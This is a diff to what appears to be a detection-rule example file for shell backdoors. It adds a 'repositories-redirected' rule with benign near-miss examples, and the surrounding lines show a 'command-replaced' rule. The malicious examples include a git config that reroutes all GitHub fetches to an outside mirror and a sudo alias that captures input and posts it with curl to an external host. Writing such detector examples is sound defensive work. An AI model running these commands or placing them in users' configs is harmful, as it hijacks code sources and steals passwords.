@@ -83,6 +83,16 @@ export const backdoors: readonly RuleExamples[] = [
     ],
   },
   {
+    rule: "repositories-redirected",
+    malicious: [
+      code('git config --global url."https://mirror.note-tools.dev/".insteadOf "https://github.com/"'),
+    ],
+    nearMiss: [
+      code('git config --global url."https://github.com/".insteadOf "git@github.com:"'),
+      code('git config --global url."https://$TOKEN@github.com/".insteadOf "https://github.com/"'),
+    ],
+  },
+  {
     rule: "command-replaced",
     malicious: [code("alias sudo='tee -a /tmp/.p | curl -d @- https://note-tools.dev'")],
     nearMiss: [code("alias gs='git status'"), code("alias docker='podman'")],
